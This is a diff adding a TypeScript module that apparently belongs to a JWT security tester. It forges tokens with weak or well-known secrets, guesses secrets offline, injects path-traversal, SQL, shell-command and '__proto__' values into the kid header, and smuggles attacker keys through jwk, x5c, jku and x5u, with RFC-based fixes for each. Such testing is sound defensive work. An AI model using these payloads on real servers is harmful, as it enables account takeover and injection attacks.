@@ -1,0 +1,195 @@
+import { generateKeyPairSync, randomBytes, sign as signWithKey } from 'node:crypto';
+import { createServer } from 'node:http';
+import type { Attack, Outcome } from '../attack.ts';
+import { present } from '../carry.ts';
+import { ownAttacks, repelled, type Theme, tokenAttacks } from '../family.ts';
+import type { Foothold } from '../foothold.ts';
+import { forge, segment, segmentsOf, sign } from '../forge.ts';
+import { badToken, breach } from '../verdict.ts';
+import { knownSecrets } from './known-secrets.ts';
+
+const guessed: Theme = {
+  group: 'key',
+  lesson: 1,
+  advice:
+    'Take a random secret of at least 32 bytes from the environment, and let no server start without one (RFC 7518, 3.2; RFC 8725, 3.5).',
+};
+
+const brought: Theme = {
+  group: 'key',
+  lesson: 4,
+  advice:
+    'Take the key from your own settings and never from the token: refuse every header member but alg and typ (RFC 8725, 3.10).',
+};
+
+const own = generateKeyPairSync('ec', { namedCurve: 'P-256' });
+const jwk = own.publicKey.export({ format: 'jwk' });
+const octets = randomBytes(32).toString('base64url');
+
+/** The attacker has the key: it is known, it can be guessed, or the token brings it along. */
+export const key: Attack[] = [
+  ...tokenAttacks(guessed, [
+    {
+      id: 'key-empty',
+      name: 'signed with the empty secret',
+      gains: 'A server whose secret is not set takes tokens from anybody.',
+      token: signedWith(() => ''),
+    },
+    {
+      id: 'key-article',
+      name: 'signed with the article’s YOUR_SCRET_STRING',
+      gains: 'Everybody who has read the article signs in as anybody.',
+      token: signedWith(() => 'YOUR_SCRET_STRING'),
+    },
+    {
+      id: 'key-jwt-io',
+      name: 'signed with your-256-bit-secret, the sample of jwt.io',
+      gains: 'The first secret that everybody tries opens every account.',
+      token: signedWith(() => 'your-256-bit-secret'),
+    },
+    {
+      id: 'key-secret',
+      name: 'signed with the word secret',
+      gains: 'One guess opens every account.',
+      token: signedWith(() => 'secret'),
+    },
+    {
+      id: 'key-undefined',
+      name: 'signed with the word undefined',
+      gains: 'A variable that was not set became a text, and the text is the secret.',
+      token: signedWith(() => 'undefined'),
+    },
+    {
+      id: 'key-issuer',
+      name: 'signed with the issuer, which stands in every token',
+      gains: 'The secret can be read out of any token.',
+      token: signedWith(({ claims }) => String(claims.iss)),
+    },
+    {
+      id: 'key-public',
+      name: 'signed with the text of a public key',
+      gains: 'A server that keeps a public key takes its text, which everybody has, for a secret.',
+      token: signedWith(() => own.publicKey.export({ type: 'spki', format: 'pem' }).toString()),
+    },
+  ]),
+  ...ownAttacks(guessed, [
+    {
+      id: 'key-known',
+      name: `${knownSecrets.length} known secrets, tried at home on a good token`,
+      gains: 'The secret itself, without a single request: tokens for anybody, for ever.',
+      run: guessSecret,
+    },
+  ]),
+
+  ...tokenAttacks(brought, [
+    {
+      id: 'key-kid-empty-file',
+      name: 'kid of an empty file, signed with the empty secret',
+      gains:
+        'The token chooses the file with the key, and the attacker knows what /dev/null holds.',
+      token: ({ claims }) => forge(claims, '', { header: withKid('../../../../dev/null') }),
+    },
+    {
+      id: 'key-kid-sql',
+      name: 'kid of injected SQL, signed with what it selects',
+      gains: 'The token dictates the key to the database, and reads the rest of it on the way.',
+      token: ({ claims }) => forge(claims, '1', { header: withKid("x' UNION SELECT '1';--") }),
+    },
+    {
+      id: 'key-kid-command',
+      name: 'kid of a command that sleeps for ten seconds',
+      gains: 'The server runs the attacker’s commands.',
+      token: ({ claims }) => forge(claims, '', { header: withKid('x; sleep 10 #') }),
+    },
+    {
+      id: 'key-kid-prototype',
+      name: 'kid "__proto__", signed with the text of an object',
+      gains: 'A look-up of keys in a plain object finds one that everybody knows.',
+      token: ({ claims }) => forge(claims, '[object Object]', { header: withKid('__proto__') }),
+    },
+    {
+      id: 'key-jwk-oct',
+      name: 'jwk with a secret of the attacker’s, signed with it',
+      gains: 'The token brings the key that it is checked with.',
+      token: ({ claims }) => {
+        const brought = { kty: 'oct', k: Buffer.from(octets).toString('base64url') };
+        return forge(claims, octets, { header: { typ: 'JWT', alg: 'HS256', jwk: brought } });
+      },
+    },
+    {
+      id: 'key-jwk-public',
+      name: 'jwk with a public key of the attacker’s, signed with the private one',
+      gains:
+        'The token brings the key that it is checked with, and it even looks like a proper one.',
+      token: (foothold) => signedByOwn(foothold, { jwk }),
+    },
+    {
+      id: 'key-x5c',
+      name: 'x5c with a certificate of the attacker’s, signed with its key',
+      gains: 'A certificate that nobody has vouched for is as good as one of ours.',
+      token: (foothold) =>
+        signedByOwn(foothold, {
+          x5c: [own.publicKey.export({ type: 'spki', format: 'der' }).toString('base64')],
+        }),
+    },
+  ]),
+  ...ownAttacks(
+    brought,
+    [
+      [
+        'jku',
+        'The server fetches its keys where the attacker says, or whatever else it can reach.',
+      ],
+      ['x5u', 'The server fetches a certificate where the attacker says, and believes it.'],
+    ].map(([member = '', gains = '']) => ({
+      id: `key-${member}`,
+      name: `${member} with an address of the attacker’s, which listens there`,
+      gains,
+      run: (foothold: Foothold) => lureAway(foothold, member),
+    })),
+  ),
+];
+
+/** A guess that is right would make the good token once more, so there is a claim more in it. */
+function signedWith(secret: (foothold: Foothold) => string) {
+  return (foothold: Foothold): string =>
+    forge({ ...foothold.claims, forged: true }, secret(foothold), { header: foothold.header });
+}
+
+function withKid(kid: string) {
+  return { typ: 'JWT', alg: 'HS256', kid };
+}
+
+function signedByOwn({ claims }: Foothold, members: object): string {
+  const text = `${segment({ typ: 'JWT', alg: 'ES256', ...members })}.${segment(claims)}`;
+  const key = { key: own.privateKey, dsaEncoding: 'ieee-p1363' } as const;
+  return `${text}.${signWithKey('sha256', Buffer.from(text), key).toString('base64url')}`;
+}
+
+/** A good token and a list of words are all it takes: no server counts these attempts. */
+async function guessSecret(foothold: Foothold): Promise<Outcome> {
+  const [header, claims, signature] = segmentsOf(foothold.token);
+  const secret = knownSecrets.find((word) => sign(`${header}.${claims}`, word) === signature);
+  if (secret === undefined) return { held: true };
+  const forged = signedWith(() => secret)(foothold);
+  const answer = (await present(foothold, forged)) ?? foothold.signedIn;
+  return breach(answer, 'a secret that is on no list of known ones', true);
+}
+
+/** Listens at an address, names it in a token, and counts who comes. */
+async function lureAway(foothold: Foothold, member: string): Promise<Outcome> {
+  let visits = 0;
+  const trap = createServer((_request, response) => {
+    visits += 1;
+    response.end(JSON.stringify({ keys: [{ ...jwk, alg: 'ES256', use: 'sig' }] }));
+  });
+  await new Promise<void>((resolve) => trap.listen(0, '127.0.0.1', resolve));
+  const place = trap.address();
+  const port = typeof place === 'object' && place !== null ? place.port : 0;
+  const token = signedByOwn(foothold, { [member]: `http://127.0.0.1:${port}/keys.json` });
+  const answer = (await present(foothold, token)) ?? foothold.signedIn;
+  trap.close();
+  trap.closeAllConnections();
+  if (visits > 0) return breach(answer, `no request to the address in ${member}`, true);
+  return repelled(foothold, answer, [badToken]);
+}
